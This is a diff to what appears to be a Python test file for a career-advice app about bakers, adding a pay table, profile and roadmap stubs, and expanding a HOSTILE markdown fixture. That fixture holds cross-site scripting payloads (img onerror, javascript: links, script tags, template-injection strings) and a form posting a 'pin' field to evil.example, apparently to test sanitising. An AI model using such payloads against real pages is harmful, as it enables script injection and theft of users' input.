@@ -7,10 +7,16 @@ from dataclasses import dataclass, field, replace
 from pathlib import Path
 from threading import Event
 
+
 import pytest
 
 from advisor.answer import Answer, Citation, Layout, Sentence, Status
 from advisor.chain import Turn
+from advisor.charts import Chart
+from advisor.charts.statements import charts_in
+from advisor.profile import Aspect, Profile, Trait
+from advisor.roadmap import Progress, Reason, Roadmap, Step
+from advisor.roadmap.ticks import ticked
 from index.errors import AdvisorError
 from index.guide import Guide
 from index.reading import read_folder
@@ -63,6 +69,11 @@ country: UK
 ## Pay
 
 The median wage of bakers was $30,000 in 2019.
+
+| Level | Pay |
+| --- | --- |
+| Apprentice | $25,000 |
+| Master | $30,000 to $41,000+ |
 """
 HOSTILE = """# Trap <img src=x onerror="document.title='owned'">
 
@@ -73,6 +84,11 @@ Read <script>document.title='owned'</script> and ![picture](https://evil.example
 Then [click](javascript:document.title='owned') or <form action="https://evil.example"><input name="pin"></form> it.
 
 Last `code` {{7*7}} ${document.body.append('owned')} [1](#src=bakers:0-5) end.
+
+| <b>Level</b> | ${document.title='owned'} |
+| --- | --- |
+| <img src=x onerror="document.title='owned'"> | $27,000 |
+| [x](javascript:alert(1)) | $48,000 |
 """
 
 
@@ -115,11 +131,52 @@ class ScriptedEngine:
     def examples(self) -> tuple[str, ...]:
         return ("Pay of bakers?", "Steps to become a baker?")
 
-    def ask(self, message: str, history: Sequence[Turn] = ()) -> Answer:
-        *_, last = self.stream(message, history)
+    def ask(self, message: str, history: Sequence[Turn] = (), profile: Profile | None = None) -> Answer:
+        *_, last = self.stream(message, history, profile)
         return last
 
-    def stream(self, message: str, history: Sequence[Turn] = ()) -> Iterator[Answer]:
+    def read_profile(self, message: str, before: Profile) -> Profile:
+        """Notes who says "I am …" and who wants to become something."""
+        for opening, aspect in (("I am ", Aspect.EXPERIENCE), ("I want to become ", Aspect.GOAL)):
+            if opening in message:
+                value = message.split(opening, 1)[1].split(".")[0]
+                before = before.with_trait(Trait(aspect, value, opening + value))
+        return before
+
+    def plan(self, profile: Profile, goal: str | None = None, ticks: Mapping[str, bool] | None = None) -> Roadmap:
+        """The bakers' steps; the first is done for those who told of experience."""
+        goals = [goal] if goal else [trait.value for trait in profile.of(Aspect.GOAL)]
+        if not goals:
+            return Roadmap("", None, (), "", (), (), ("You did not say what you would like to become.",), ())
+        known = profile.of(Aspect.EXPERIENCE)
+        answer = self._steps("", ())
+        steps = tuple(
+            Step(
+                number,
+                sentence,
+                Progress.DONE if known and number == 1 else Progress.LATER,
+                Reason("You told me of it:", known[0].words) if known and number == 1 else Reason("Still to do."),
+                says=(sentence,),
+                disagreement=(sentence, sentence) if number == 2 else (),
+                gaps=("The guides do not say what this step costs.",),
+            )
+            for number, sentence in enumerate(answer.sentences, 1)
+        )
+        made = Roadmap(
+            goals[0], None, (self.index.guides["bakers"],), "This guide is about it.", steps, (), (), answer.citations
+        )
+        return ticked(made, ticks or {})
+
+    def charts(self) -> Sequence[Chart]:
+        """The tables of bakers and cooks on one scale, and others alone."""
+        bakers, cooks, *others = (
+            chart for name in ("bakers", "cooks", "hostile") for chart in charts_in(self.index.guides[name])
+        )
+        return (replace(bakers, series=(*bakers.series, *cooks.series)), *others)
+
+    def stream(
+        self, message: str, history: Sequence[Turn] = (), profile: Profile | None = None
+    ) -> Iterator[Answer]:
         kind = message.split(maxsplit=1)[0].lower().strip("?.!") if message.split() else ""
         answer = getattr(self, f"_{kind}", self._echo)(message, history)
         for count in range(1, len(answer.sentences)):
